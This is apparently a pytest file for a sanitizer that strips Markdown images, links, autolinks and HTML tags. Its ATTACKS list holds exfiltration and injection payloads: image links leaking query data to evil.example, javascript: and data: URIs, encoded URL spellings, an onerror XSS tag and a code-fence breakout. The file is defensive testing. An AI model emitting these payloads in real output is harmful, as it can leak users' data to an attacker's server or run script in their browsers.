"""Nothing that fetches or leads elsewhere reaches the page, however it is spelled."""

import re

import pytest

from answers.markdown import InertStream, fenced, harmless, inert

# What the page's Markdown makes a picture or a link of.
LINKS = re.compile(
    r"\]\(|\]\[|^\s*(?:[>*-]\s*)*\[[^\]]+\]:|!\[|<[a-z][a-z0-9+.-]+:|(?:https?|ftp)\\?:\\?/|www\\?\.|mailto:",
    re.IGNORECASE | re.MULTILINE,
)

ATTACKS = [
    "![x](https://evil.example/?d=1)",
    "![](https://evil.example)",
    "![x][ref]\n\n[ref]: https://evil.example",
    "![ref]\n\n[ref]:\nhttps://evil.example/a.png",
    "> [ref]: <https://evil.example>\n\n[ref]",
    "[a link](https://evil.example)",
    "[a link](/admin)",
    "[a [nested](https://evil.example) link](https://evil.example/b)",
    '[t](https://evil.example "title (with) brackets")',
    "[t](javascript:alert(1))",
    "[t](data:text/html;base64,PHNjcmlwdD4=)",
    "[t](<https://evil.example/a b>)",
    "<https://evil.example/leak?d=1>",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example>",
    "see https://evil.example/leak?d=1 now",
    "see HTTPS://EVIL.example/leak",
    "see www.evil.example/leak?d=1",
    "see WWW\\.evil.example/leak",
    "&#104;ttps://evil.example",
    "&amp;#104;ttps://evil.example",
    "&#x68;&#x74;&#x74;&#x70;s&colon;//evil.example",
    "&lsqb;x&rsqb;&lpar;https://evil.example&rpar;",
    "https\\://evil.example",
    "https:\\/\\/evil.example",
    "hthttps://tps://evil.example",
    "![[x](https://evil.example/1)](https://evil.example/2)",
    "[x]\\(https://evil.example) [y]\\[z]\n[z]\\: https://evil.example",
    "[^1]\n\n[^1]: https://evil.example",
    "mailto:a@evil.example",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_spelling_of_a_picture_or_link_is_left(text: str) -> None:
    assert LINKS.search(text) or "&" in text, "the attack is one"
    assert not LINKS.search(inert(text))


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("size", [1, 3, 7])
def test_none_is_left_in_a_text_that_comes_in_pieces(text: str, size: int) -> None:
    stream = InertStream()
    pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    shown = "".join([*pieces, stream.feed(" ")])
    assert not LINKS.search(shown)


@pytest.mark.parametrize(
    "text, shown",
    [
        ("a ![x](https://evil.example/?d=1) b", "a x b"),
        ("[a link](https://example.com)", "a link"),
        ("5! [sic]", "5! [sic]"),
        ("**华东** 的营业额是 1,200 元（占 20%）[注]。", "**华东** 的营业额是 1,200 元（占 20%）[注]。"),
        ("a < b & c > d; R&D; 数据: 5", "a < b & c > d; R&D; 数据: 5"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
    ],
)
def test_honest_words_stay(text: str, shown: str) -> None:
    assert inert(text) == shown


def test_honest_words_are_not_held_back() -> None:
    stream = InertStream()
    assert [stream.feed(piece) for piece in ("上个月", "营业额是 1,200 元", "。")] == [
        "上个月", "营业额是 1,200 元", "。"
    ]  # fmt: skip


def test_sql_cannot_end_its_code_block() -> None:
    assert "```" not in fenced("SELECT 1 --\n```\n![x](https://evil.example)")


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("Sales rose [here](https://evil.example/?d=1).", "Sales rose here."),
        ("![x](https://evil.example/p.png) 12", "x 12"),
        ("<img src=x onerror=alert(1)> 12", "&lt;img src=x onerror=alert(1)> 12"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script>alert(1)&lt;/script>"),
        ("a < 5 and b > 3, 3<5", "a < 5 and b > 3, 3<5"),
        ("**12** 元", "**12** 元"),
    ],
)
def test_words_for_other_readers_hold_neither_links_nor_tags(text, told):
    assert harmless(text) == told == harmless(told)
